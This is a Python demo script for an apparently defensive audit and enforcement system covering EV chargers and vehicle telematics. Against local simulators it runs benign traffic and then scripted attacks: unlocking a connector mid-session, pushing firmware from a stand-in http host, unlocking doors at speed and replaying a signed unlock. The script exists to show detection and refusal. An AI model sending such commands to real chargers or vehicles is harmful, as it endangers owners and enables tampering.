"""`make demo` (python -m hw_sim.demo): the end-to-end path, on this machine, in about a minute.

A private Mosquitto on a free port, a collector (verify → SQLite store → receipts), two
agents (a charger's and a vehicle's, each on its own Unix socket with an MQTT uplink), a
simulated CSMS and charger (OCPP 1.6J through the shim's OCPP guard), a vehicle with its
app, benign traffic and a few attacks; then what the collector stored and alerted, and
`veritrail verify` of an export of the collector's copy. Parts that are missing are named
and skipped; the demo always ends by itself (hard limit ``DEADLINE_S``).
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

DEADLINE_S = 110
MOSQUITTO = os.environ.get("VERITRAIL_MOSQUITTO", "/usr/sbin/mosquitto")


def say(line: str) -> None:
    print(line, flush=True)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _wait(cond: Any, timeout_s: float) -> bool:
    end = time.monotonic() + timeout_s
    while time.monotonic() < end:
        if cond():
            return True
        time.sleep(0.05)
    return bool(cond())


class Parts:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.broker: subprocess.Popen | None = None
        self.port: int | None = None
        self.collector: Any = None
        self.collector_stop = threading.Event()
        self.collector_thread: threading.Thread | None = None
        self.store: Any = None
        self.signer: Any = None

    def start_broker(self) -> bool:
        if not Path(MOSQUITTO).exists():
            say(f"  [missing] Mosquitto not found at {MOSQUITTO}: no uplink (run `make setup`)")
            return False
        self.port = _free_port()
        conf = self.root / "mosquitto.conf"
        conf.write_text(f"listener {self.port} 127.0.0.1\nallow_anonymous true\npersistence false\n"
                        f"message_size_limit 262144\nlog_dest file {self.root / 'mosquitto.log'}\n")
        self.broker = subprocess.Popen([MOSQUITTO, "-c", str(conf)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

        def up() -> bool:
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=0.2):
                    return True
            except OSError:
                return False
        ok = _wait(up, 10)
        say(f"  mosquitto on 127.0.0.1:{self.port}" if ok else "  [broken] mosquitto did not start")
        return ok

    def start_collector(self) -> bool:
        try:
            from agent.core.keys import generate_signer
            from cloud_collector.config import CollectorConfig
            from cloud_collector.ingest import Collector
            from cloud_collector.store.sqlite import SQLiteStore
        except ImportError as exc:
            say(f"  [missing] collector not importable ({exc.name}): records stay in the agents' spools")
            return False
        self.signer = generate_signer()
        cfg = CollectorConfig(store=str(self.root / "collector.db"), mqtt_port=self.port, client_id="vt-demo-collector",
                              housekeeping_interval_s=1.0)
        self.store = SQLiteStore(cfg.store)
        self.collector = Collector(cfg, SQLiteStore(cfg.store), self.signer)
        self.collector_thread = threading.Thread(target=self.collector.run, args=(self.collector_stop,), daemon=True)
        self.collector_thread.start()
        ok = _wait(self.collector.connected.is_set, 10)
        say("  collector connected (SQLite store, signed receipts)" if ok else "  [broken] collector did not connect")
        return ok

    def stop(self) -> None:
        self.collector_stop.set()
        if self.collector_thread is not None:
            self.collector_thread.join(10)
        if self.broker is not None:
            self.broker.terminate()
            try:
                self.broker.wait(5)
            except subprocess.TimeoutExpired:
                self.broker.kill()


async def traffic(charger_sock: Path, vehicle_sock: Path, clock: Any) -> dict[str, Any]:
    """Benign charger and vehicle traffic, then attacks; returns what each attack got."""
    from .charger import ChargerConfig
    from .csms import Csms
    from .devices import SimCharger, SimVehicle
    from .vehicle import VehicleConfig
    from .wiring import ShimLink
    out: dict[str, Any] = {}
    clink, vlink = ShimLink.connect(charger_sock), ShimLink.connect(vehicle_sock)
    csms = Csms(clock, heartbeat_s=300)
    await csms.start()
    charger = SimCharger(ChargerConfig(charger_id="CP-DEMO-1", connectors=2), clink, clock, csms, ocpp_version="1.6")
    car = SimVehicle(VehicleConfig(vin="WVTDEMO0000000042"), vlink, clock, seed=42)
    async with asyncio.TaskGroup() as tg:
        tg.create_task(charger.run())
        tg.create_task(car.run())
        await charger.ready(15)
        say("  benign: remote start with a 16 A profile, meter values, remote stop; commute with app use")
        charger.model.plug_in(1, 32)
        charger.model.owner_override = True
        await csms.send(charger.id, "RemoteStartTransaction", id_tag="DEMO-APP", connector_id=1, charging_profile={
            "charging_profile_id": 1, "stack_level": 0, "charging_profile_purpose": "TxProfile",
            "charging_profile_kind": "Absolute", "charging_schedule": {
                "charging_rate_unit": "A", "charging_schedule_period": [{"start_period": 0, "limit": 16}]}})
        await car.command("app", "climate", on=True)
        car.model.local("unlock")
        car.model.enter()
        await car.drive_until_arrived("work", 50)
        car.model.leave()
        car.model.local("lock")
        await clock.sleep(600)
        say("  attack: UnlockConnector during the session (CP-01)")
        res = await csms.send(charger.id, "UnlockConnector", connector_id=1)
        out["CP-01 unlock during session"] = getattr(res, "status", res)
        await charger.remote_stop(1)
        say("  attack: firmware from an unknown http host (CP-06)")
        res = await csms.send(charger.id, "UpdateFirmware", location="http://203.0.113.7/fw.bin",
                              retrieve_date=csms.now())
        out["CP-06 http firmware"] = "sent (1.6 UpdateFirmware has no refusal)"
        say("  attack: unlock at 80 km/h (TCU-01) and a replayed signed unlock (TCU-14)")
        car.model.enter()
        car.model.drive_to("highway", 80)
        await clock.sleep(60)
        r1 = await car.command("app", "door_unlock")
        out["TCU-01 unlock at speed"] = f"{r1.status} {r1.verdict.v} {','.join(r1.verdict.rules)}"
        await car.drive_until_arrived("highway", 80)
        car.model.leave()
        captured = car.app.command(car.owner, car.vin, "door_unlock")
        await car.app.deliver(car.model, captured)
        await clock.sleep(7200)
        r2 = await car.app.replay(car.model, captured)
        out["TCU-14 replayed unlock"] = f"{r2.status} {r2.verdict.v} {','.join(r2.verdict.rules)}"
        charger.stop()
        car.stop()
    await csms.close()
    for link in (clink, vlink):
        link.flush()
        link.close()
    return out


def export_from_collector(db: Path, dev: str, out: Path) -> int:
    """Write the collector's stored chain of ``dev`` as an export file (`veritrail collector export`)."""
    from cloud_collector.export import export_device
    from cloud_collector.store.sqlite import SQLiteStore
    store = SQLiteStore(str(db))
    try:
        with open(out, "wb") as fh:
            return export_device(store, dev, fh)["checkpoints"]
    finally:
        store.close()


def main() -> int:
    t0 = time.monotonic()
    watchdog = threading.Timer(DEADLINE_S, lambda: (say(f"demo: hard limit {DEADLINE_S}s reached"), os._exit(3)))
    watchdog.daemon = True
    watchdog.start()
    root = Path(tempfile.mkdtemp(prefix="veritrail-demo-"))
    parts = Parts(root)
    say(f"Veritrail demo (work dir {root})")
    try:
        from .agent_host import HostConfig
        from .clock import ClockConfig, SimClock, DEFAULT_START_MS
        from .wiring import ThreadedAgent
    except ImportError as exc:
        say(f"  [missing] agent parts not importable ({exc.name}); nothing to run")
        return 1
    have_broker = parts.start_broker()
    have_collector = have_broker and parts.start_collector()
    uplink = None
    if have_collector:
        uplink = {"host": "127.0.0.1", "port": parts.port, "collector_public_key": parts.signer.public_bytes().hex(),
                  "batch_linger_ms": 200}
    clock = SimClock(ClockConfig(start_wall_ms=DEFAULT_START_MS + 17 * 3_600_000, factor=120.0))
    agents = {}
    for dev, klass in (("cp-demo-1", "charger"), ("tcu-demo-42", "tcu")):
        a = ThreadedAgent(root / dev, HostConfig(device_id=dev, device_class=klass, uplink=uplink, mode="enforce"), clock)
        if have_collector:
            from agent.core.export import Trust
            parts.store.enroll(Trust.from_enrollment(json.loads(a.host.enrollment.read_text())),
                               int(time.time() * 1000))
        agents[dev] = a.start()
    say(f"  agents: {', '.join(agents)} (rules: {type(agents['cp-demo-1'].host.engine).__name__}, enforce mode: unsafe commands are refused)")
    try:
        results = asyncio.run(traffic(agents["cp-demo-1"].socket_path, agents["tcu-demo-42"].socket_path, clock))
        say("attacks, as the devices saw them:")
        for k, v in results.items():
            say(f"  {k:<28} {v}")
    except Exception as exc:  # noqa: BLE001 - the demo reports what broke and goes on to show the rest
        say(f"  [broken] traffic: {type(exc).__name__}: {exc}")
    targets = {}
    for dev, a in agents.items():
        a.drained()
        targets[dev] = a.host.ledger.durable_seq
    if have_collector:
        def caught_up() -> bool:
            return all((a.host.spool.last_receipt() or (0, -1))[1] >= targets[d] for d, a in agents.items())
        ok = _wait(caught_up, 30)
        say("receipts: every sealed record acknowledged by the collector" if ok else
            "receipts: [incomplete] some records not yet acknowledged after 30 s")
    for a in agents.values():
        a.stop()
    if have_collector:
        say("collector:")
        for dev in agents:
            state = parts.store.device(dev) or {}
            n = len(parts.store.records(dev, 0, 2 ** 62, 10 ** 6))
            say(f"  {dev}: {n} records stored and verified, chain state {json.dumps(state, default=str)[:160]}")
        for alert in parts.store.alerts(None, 50):
            detail = alert.get("detail") or {}
            say(f"  alert {alert['dev']} {alert['kind']} {alert['severity']}: {json.dumps(detail, default=str)[:140]}")
        parts.stop()
        dev = "tcu-demo-42"
        exp = root / f"{dev}.export"
        n = export_from_collector(root / "collector.db", dev, exp)
        say(f"veritrail verify of the collector's copy of {dev} ({n} checkpoints):")
        proc = subprocess.run([sys.executable, "-m", "agent.cli", "verify", str(exp), "--trust",
                               str(agents[dev].host.enrollment)], capture_output=True, text=True, timeout=60)
        for line in (proc.stdout + proc.stderr).strip().splitlines():
            say(f"  {line}")
    else:
        parts.stop()
        say("collector: [missing] skipped; the agents' spools keep everything")
    say(f"demo finished in {time.monotonic() - t0:.0f}s")
    if not os.environ.get("VERITRAIL_DEMO_KEEP"):
        shutil.rmtree(root, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
